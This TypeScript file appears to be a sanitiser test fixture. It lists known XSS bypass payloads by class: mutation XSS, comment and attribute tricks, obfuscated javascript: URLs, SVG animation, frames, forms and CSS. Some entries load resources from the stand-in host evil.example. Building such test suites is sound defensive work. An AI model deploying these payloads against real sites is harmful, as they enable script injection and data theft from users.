// Known sanitiser bypasses by class: each sets `window.__hacked`, loads a resource, or styles the page.

const run = '__hacked=1'
const image = `<img src=x onerror=${run}>`

export const bypasses: Record<string, string[]> = {
  // Mutation XSS: text for one parser is elements for another, when the browser parses it again.
  mutation: [
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><p><style><!--</style>${image}--></style>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg><foreignobject><math><mi><table><mglyph><style></svg>${image}</style>`,
    `<noscript><style></noscript>${image}</style>`,
    `<textarea><style></textarea>${image}</style><title><style></title>${image}</style>`,
    `<template><svg><style></template>${image}</style></svg><template shadowrootmode=open>${image}</template>`,
    `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
    `<div><![CDATA[<p title="]]>${image}">]]><svg><![CDATA[</svg>${image}]]></svg>`,
    `${'<div>'.repeat(60)}<svg><style></style>${image}`,
    `${'<b>'.repeat(600)}<table><svg><style>${image}`,
  ],
  comments: [
    `<!--><script>${run}</script>-->`,
    `<!-- --!><script>${run}</script> -->`,
    `<!${image}><?${image}?></ ${image}><%${image}%>`,
  ],
  attributes: [
    `<p title='a"onmouseover="${run}'>x</p><p title=a\`onclick=${run}>x</p>`,
    `<p/onclick=${run}>x</p><p\u000conclick=${run}>x</p><p \u0000onclick=${run}>x</p>`,
    `<img src="x" ${'a=b '.repeat(300)} onerror=${run}>`,
    `<details open ontoggle=${run}><summary accesskey=x onclick=${run}>x</summary></details>`,
    `<h2 id="trustedTypes">x</h2><h2 id="form-name">x</h2><h2 id="data" name="data">x</h2><a id=data name=data href=x>x</a>`,
    `<a ping="https://evil.example" attributionsrc="https://evil.example" href="/x" target=_blank rel=opener>x</a>`,
    `<img src=x srcset="https://evil.example/x 1x" usemap="#m" crossorigin lowsrc="https://evil.example/x" dynsrc=x>`,
  ],
  addresses: [
    `<a href="&#x6A&#x61;vascript:${run}">x</a><a href="java&Tab;script:${run}">x</a><a href="java&NewLine;script:${run}">x</a>`,
    `<a href="&#0000106avascript:${run}">x</a><a href="javascript&colon;${run}">x</a><a href="\u0001javascript:${run}">x</a>`,
    `<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a><a href="http:evil.example">x</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="blob:x">x</a><a href="filesystem:x">x</a><a href="about:blank">x</a>`,
    `<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="https://evil.example/x.png"><img src="//evil.example/x.png">`,
    `<img src="/\\evil.example/x.png"><img src="http://evil.example/x"><img src="jav&#x09;ascript:${run}">`,
    `<a href="javascript:${run}" xlink:href="javascript:${run}" formaction="javascript:${run}">x</a>`,
  ],
  drawings: [
    `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${run} /><use href="data:image/svg+xml,<svg id=x/>#x" /></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  ],
  frames: [
    `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe><iframe src="javascript:parent.${run}">`,
    `<object data="javascript:${run}"></object><embed src="javascript:${run}"><applet code=x><portal src=x><fencedframe>`,
    `<meta http-equiv=refresh content="0;url=javascript:${run}"><base href="https://evil.example/"><link rel=import href=x>`,
    `<script type=importmap>{}</script><script type=speculationrules>{"prefetch":[]}</script><link rel=prefetch href=//evil.example>`,
  ],
  forms: [
    `<form id=x></form><button form=x formaction="javascript:${run}">x</button><input type=image src=x onerror=${run}>`,
    `<video><source onerror=${run}></video><audio src onloadstart=${run}><marquee onstart=${run}>x</marquee>`,
  ],
  styles: [
    `<style>@import "https://evil.example"</style><style>*{background:url(https://evil.example)}</style>`,
    `<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p><font color=x style=x>x</font>`,
    `<link rel=stylesheet href="data:text/css,*{display:none}"><svg><style>@import 'https://evil.example'</style></svg>`,
  ],
}
